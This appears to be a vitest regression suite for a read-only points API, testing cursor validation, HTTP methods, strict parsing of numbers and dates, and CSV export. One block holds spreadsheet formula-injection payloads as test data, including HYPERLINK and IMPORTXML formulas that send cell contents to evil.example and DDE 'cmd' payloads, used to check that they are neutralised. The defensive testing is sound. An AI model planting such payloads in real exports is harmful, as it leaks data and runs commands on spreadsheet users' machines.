import { parse } from 'csv-parse/sync'
import { afterEach, describe, expect, it } from 'vitest'
import { createCursorCodec } from '../../../functions/api/cursor.ts'
import { PointRecordSchema } from '../../../shared/schemas/point.ts'
import { samplePoint } from '../../support/sample-point.ts'
import { createApiFixture, CURSOR_SECRET, REGISTRY_VERSION, snapshotOf } from './support/app-fixture.ts'

/**
 * Holes found by probing the read API (issue 8): each case here failed before its fix.
 */
const fixture = createApiFixture()
const { records } = fixture
afterEach(() => fixture.source.swap(fixture.snapshot))
const someId = records.find((p) => p.status === 'active')!.id

async function expectProblem(response: Response, status: number, field?: string): Promise<Record<string, any>> {
  expect(response.status).toBe(status)
  expect(response.headers.get('content-type')).toMatch(/^application\/problem\+json/)
  const body = await response.json()
  if (field) expect(body.errors.map((e: { field: string }) => e.field)).toContain(field)
  return body
}

describe('cursors that are validly signed but out of range', () => {
  const codec = createCursorCodec(CURSOR_SECRET)
  const near = '41.9028,12.4964'
  // The fingerprint a real walk carries: the parsed query without the cursor, as the route makes it.
  const fingerprintOf = async (query: string): Promise<string> => {
    const { next_cursor } = await fixture.getJson(`/v1/points?${query}`)
    return codec.decode(next_cursor).q
  }

  it.each([
    ['a negative offset', { offset: -5 }],
    ['a fractional offset', { offset: 2.5 }],
    ['an absurd offset', { offset: 1e15 }],
    ['an offset that is not a number', { offset: 'ten' }],
    ['an "after" that is not an id', { after: 42 }],
  ])('answer 400 naming cursor for %s, never 500', async (_, position) => {
    const query = `near=${near}&limit=5`
    const q = await fingerprintOf(query)
    const cursor = codec.encode({ v: REGISTRY_VERSION, q, ...(position as object) } as never)
    await expectProblem(await fixture.get(`/v1/points?${query}&cursor=${encodeURIComponent(cursor)}`), 400, 'cursor')
  })
})

describe('If-None-Match: *', () => {
  it('gives 304 only where a representation exists', async () => {
    expect((await fixture.get(`/v1/points/${someId}`, { headers: { 'If-None-Match': '*' } })).status).toBe(304)
    await expectProblem(await fixture.get('/v1/points/demo-99-9999', { headers: { 'If-None-Match': '*' } }), 404)
    await expectProblem(await fixture.get('/v1/points?limit=abc', { headers: { 'If-None-Match': '*' } }), 400, 'limit')
    await expectProblem(await fixture.get('/v1/nothing-here', { headers: { 'If-None-Match': '*' } }), 404)
  })
})

describe('methods the read API does not answer', () => {
  const known = ['/v1/points', `/v1/points/${someId}`, '/v1/points.geojson', '/v1/points.csv', '/v1/places?q=roma', '/v1/regions', '/healthz', '/v1/openapi.json', '/v1/docs']
  it.each(['POST', 'PUT', 'PATCH', 'DELETE'])('%s on an existing resource is a 405 problem with Allow', async (method) => {
    for (const url of known) {
      const response = await fixture.get(url, { method, body: method === 'DELETE' ? undefined : '{}', headers: { 'Content-Type': 'application/json' } })
      await expectProblem(response, 405)
      expect(response.headers.get('allow'), `${method} ${url}`).toBe('GET, HEAD, OPTIONS')
    }
  })

  it('is still a 404 on a path that does not exist', async () => {
    await expectProblem(await fixture.get('/v1/nothing-here', { method: 'POST', body: '{}' }), 404)
  })
})

describe('numbers and text the query schema used to let through', () => {
  it.each(['0x10', '1e1', '+5', ' 5', '5 ', '0b11', '5.0', '１０'])('rejects limit=%s', async (limit) => {
    await expectProblem(await fixture.get(`/v1/points?limit=${encodeURIComponent(limit)}`), 400, 'limit')
  })

  it.each(['0x10', 'Infinity', ' 5', '1_0'])('rejects radius_km=%s', async (radius) => {
    await expectProblem(await fixture.get(`/v1/points?near=41.9,12.5&radius_km=${encodeURIComponent(radius)}`), 400, 'radius_km')
  })

  it.each(['0x10,10', '0b101010,11', '1e1,1e1', '.5e2,11', '43.7,0x0B', 'Infinity,11'])('rejects near=%s: degrees are decimal, not hex, binary or exponents', async (near) => {
    await expectProblem(await fixture.get(`/v1/points?near=${encodeURIComponent(near)}`), 400, 'near')
  })

  it('rejects a bbox in hex, and still takes decimal degrees written as people write them', async () => {
    await expectProblem(await fixture.get('/v1/points?bbox=0xB,43,12,44'), 400, 'bbox')
    for (const near of ['43.7696,11.2558', '-0.5,11', '43,11', '43.,11', '.5,11', '43.7696, 11.2558']) expect((await fixture.get(`/v1/points?near=${encodeURIComponent(near)}&limit=1`)).status, near).toBe(200)
  })

  it('refuses a value sent without a parameter name (?=5), which the router dropped in silence', async () => {
    for (const path of ['/v1/points?=5', '/v1/points?limit=1&=5', '/v1/places?q=roma&=x', '/healthz?=1']) {
      const response = await fixture.get(path)
      expect(response.status, path).toBe(400)
      expect((await response.json()).errors[0].field, path).toBe('')
    }
    // A "?=" inside a value is part of the value.
    expect((await fixture.get('/v1/points?q=chi?=x')).status).toBe(200)
  })

  it.each([
    ['2026-02-30T10:00:00Z', 'names no real day (2026-02-30)'],
    ['2027-02-29T10:00:00+01:00', 'names no real day (2027-02-29)'],
    ['2026-12-09T24:00:00Z', 'names no real time (24:00:00'],
    ['2026-12-09T23:59:60Z', 'names no real time (23:59:60'],
    ['2026-12-09T10:00:00', 'needs its offset from UTC'],
    ['domani', 'must be an ISO 8601 date-time with offset'],
  ])('refuses open_at=%s saying what is wrong with it: %s', async (openAt, reason) => {
    const body = await expectProblem(await fixture.get(`/v1/points?open_at=${encodeURIComponent(openAt)}`), 400, 'open_at')
    expect(body.errors.find((e: { field: string }) => e.field === 'open_at').message).toContain(reason)
  })

  it("says the offset's + arrived as a space when a client sends open_at without encoding it (a URL's + is a space)", async () => {
    const body = await expectProblem(await fixture.get('/v1/points?open_at=2026-12-09T10:00:00+01:00'), 400, 'open_at')
    expect(body.errors.find((e: { field: string }) => e.field === 'open_at').message).toContain('%2B01:00')
  })

  it('takes a lowercase t and z, which RFC 3339 allows, as the same instant', async () => {
    const upper = await fixture.getJson('/v1/points?near=43.77,11.25&open_at=2026-12-09T09:30:00Z&limit=5')
    const lower = await fixture.getJson('/v1/points?near=43.77,11.25&open_at=2026-12-09t09:30:00z&limit=5')
    expect(lower.items.map((p: { id: string }) => p.id)).toEqual(upper.items.map((p: { id: string }) => p.id))
    expect(upper.items.length).toBeGreaterThan(0)
  })

  it('still takes decimal radii and plain limits', async () => {
    const page = await fixture.getJson('/v1/points?near=41.9,12.5&radius_km=2.5&limit=7')
    expect(page.items.length).toBeLessThanOrEqual(7)
    expect(page.items.every((p: { distance_m: number }) => p.distance_m <= 2500)).toBe(true)
  })

  it.each(['%', '%25', '***', ' - ', '.'])('rejects q=%s, which has no letter or digit to search for, instead of matching everything', async (q) => {
    await expectProblem(await fixture.get(`/v1/points?q=${q}`), 400, 'q')
  })
})

describe('spreadsheet formula injection in /v1/points.csv', () => {
  const hostile = [
    '=HYPERLINK("https://evil.example/?"&A1,"Clicca")',
    '+IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
    '-2+3+cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
  ]
  function evilRegistry() {
    const evil = hostile.map((text, i) =>
      PointRecordSchema.parse({
        ...samplePoint(`evil-${i}`, {
          name: text,
          operator: { name: text, type: 'terzo_settore' },
          address: { street: text, postcode: '50123' },
          contacts: { phone: i === 0 ? '+39 055 1234567' : '-055 123', email: null, website: null },
        }),
        version: 1,
        updated_at: '2026-11-01T10:00:00Z',
      }),
    )
    return snapshotOf([...records, ...evil])
  }

  it('neutralises cells that a spreadsheet would run as formulas, and keeps phone numbers readable', async () => {
    fixture.source.swap(evilRegistry())
    const response = await fixture.get('/v1/points.csv?comune=048017')
    expect(response.status).toBe(200)
    const [header, ...rows] = parse(await response.text(), { bom: true, relax_quotes: true }) as string[][]
    const col = (name: string) => header!.indexOf(name)
    const evilRows = rows.filter((r) => r[col('point_id')]!.startsWith('evil-'))
    expect(evilRows).toHaveLength(hostile.length)
    for (const row of evilRows) {
      for (const [i, cell] of row.entries()) if (i !== col('phone')) expect(cell, `${header![i]} ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/)
      const original = hostile[Number(row[col('point_id')]!.slice('evil-'.length))]!
      // Neutralised by one leading apostrophe, the OWASP way: the text itself is all there.
      expect(row[col('name')]).toBe(`'${original}`)
      expect(row[col('operator_name')]).toBe(`'${original}`)
      expect(row[col('address_street')]).toBe(`'${original}`)
    }
    const phones = evilRows.map((r) => r[col('phone')])
    expect(phones).toContain('+39 055 1234567')
    expect(phones).toContain('-055 123')
  })

  it('quotes any cell holding a semicolon, so a spreadsheet reading ; as separator cannot start a new cell in it', async () => {
    const tricky = PointRecordSchema.parse({ ...samplePoint('semi-1', { name: 'Biblioteca;=1+1' }), version: 1, updated_at: '2026-11-01T10:00:00Z' })
    fixture.source.swap(snapshotOf([...records, tricky]))
    const text = await (await fixture.get('/v1/points.csv?comune=048017&q=biblioteca')).text()
    expect(text).toContain('"Biblioteca;=1+1"')
  })
})

describe('holes a new user found by probing (2026-12-07)', () => {
  it.each([
    ['q=%ZZ', 'q'],
    ['q=ghiff%E0', 'q'],
    ['near=41.9,12.5&service=formazione%G0gruppo', 'service'],
    ['region=%', 'region'],
  ])('answers %s, which is not percent-encoded UTF-8, with a 400 naming the parameter, not a silent search for something else', async (query, field) => {
    const body = await expectProblem(await fixture.get(`/v1/points?${query}`), 400, field)
    expect(body.errors.find((e: { field: string }) => e.field === field).message).toMatch(/percent-encod/)
  })

  it('still takes percent-encoded UTF-8 and "+" for a space', async () => {
    expect((await fixture.get('/v1/points?q=universit%C3%A0')).status).toBe(200)
    expect((await fixture.get('/v1/points?q=biblioteca+civica')).status).toBe(200)
  })

  it.each(['service=formazione_gruppo,', 'service=,formazione_gruppo', 'kind=fixed,,mobile', 'status=active,', 'topic=spid, ,cie'])(
    'rejects %s, a comma list with an empty item, as service=, already was',
    async (query) => {
      const field = query.slice(0, query.indexOf('='))
      const body = await expectProblem(await fixture.get(`/v1/points?${query}`), 400, field)
      expect(body.errors.find((e: { field: string }) => e.field === field).message).toMatch(/empty item/)
    },
  )

  it.each(['/healthz?x=1', '/v1/openapi.json?x=1'])('answers %s, an unknown parameter, with a 400 as every /v1 path does', async (url) => {
    const body = await expectProblem(await fixture.get(url), 400, 'x')
    expect(body.errors[0].message).toBe('unknown parameter')
  })

  it('continues a walk begun before the upgrade that made cursors independent of limit and view, with the same query', async () => {
    const codec = createCursorCodec(CURSOR_SECRET)
    // What a cursor carried until 2026-12-07: the whole parsed query but the cursor, limit and view included.
    const { fnv1a } = await import('../../../shared/util/fnv1a.ts')
    const parsed = { region: '09', limit: 5 }
    const legacy = codec.encode({ v: REGISTRY_VERSION, q: `points:${fnv1a(JSON.stringify(parsed)).toString(36)}`, after: (await fixture.getJson('/v1/points?region=09&limit=5')).items[4].id })
    const next = await fixture.get(`/v1/points?region=09&limit=5&cursor=${encodeURIComponent(legacy)}`)
    expect(next.status).toBe(200)
    const whole = await fixture.getJson('/v1/points?region=09&limit=10')
    expect((await next.json()).items.map((p: { id: string }) => p.id)).toEqual(whole.items.slice(5).map((p: { id: string }) => p.id))
  })

  it('continues a walk whose page size or view changes between pages: only the filters make the walk', async () => {
    for (const base of ['/v1/points?near=43.77,11.25', '/v1/points?region=09']) {
      const whole = await fixture.getJson(`${base}&limit=15`)
      const first = await fixture.getJson(`${base}&limit=5`)
      const second = await fixture.get(`${base}&limit=10&view=compact&cursor=${encodeURIComponent(first.next_cursor)}`)
      expect(second.status).toBe(200)
      const ids = (await second.json()).items.map((p: { id: string }) => p.id)
      expect(ids).toEqual(whole.items.slice(5, 15).map((p: { id: string }) => p.id))
    }
    // Another filter is still another walk.
    const first = await fixture.getJson('/v1/points?region=09&limit=5')
    await expectProblem(await fixture.get(`/v1/points?region=10&limit=5&cursor=${encodeURIComponent(first.next_cursor)}`), 400, 'cursor')
  })

  it('names the site that is open when open_at or open_now filters a list without near, with its own status (a review found a card saying "closed" in a list of open points)', async () => {
    const library = { id: 'twosites-s1', kind: 'fixed' as const, label: 'Biblioteca', address: { street: 'Via Roma 1', postcode: '50123' }, location: { lat: 43.7696, lon: 11.2558 }, opening_hours: { sa: [{ start: '09:00', end: '12:00' }] } }
    const office = { id: 'twosites-s2', kind: 'fixed' as const, label: 'URP', address: { street: 'Via Verdi 2', postcode: '50122' }, location: { lat: 43.77, lon: 11.26 }, opening_hours: { we: [{ start: '15:00', end: '18:00' }] } }
    const point = PointRecordSchema.parse({ ...samplePoint('twosites-1', { sites: [library, office] }), version: 1, updated_at: '2026-11-01T10:00:00Z' })
    fixture.source.swap(snapshotOf([...records, point]))
    // Wednesday 2 December 2026, 16:00 in Rome: only the URP is open.
    const page = await fixture.getJson(`/v1/points?comune=048017&open_at=${encodeURIComponent('2026-12-02T16:00:00+01:00')}&limit=100`)
    const item = page.items.find((p: { id: string }) => p.id === 'twosites-1')
    expect(item.site).toMatchObject({ id: 'twosites-s2', label: 'URP' })
    expect(item.site.next_opening).not.toBeUndefined()
  })

  it('says what cursor and view expect in its own words, not the validator library\'s', async () => {
    const cursor = await expectProblem(await fixture.get('/v1/points?cursor='), 400, 'cursor')
    expect(cursor.errors[0].message).toBe('must not be empty: pass the next_cursor of the previous page, or leave it out')
    const view = await expectProblem(await fixture.get('/v1/points?view=short'), 400, 'view')
    expect(view.errors[0].message).toBe('must be full or compact')
  })
})
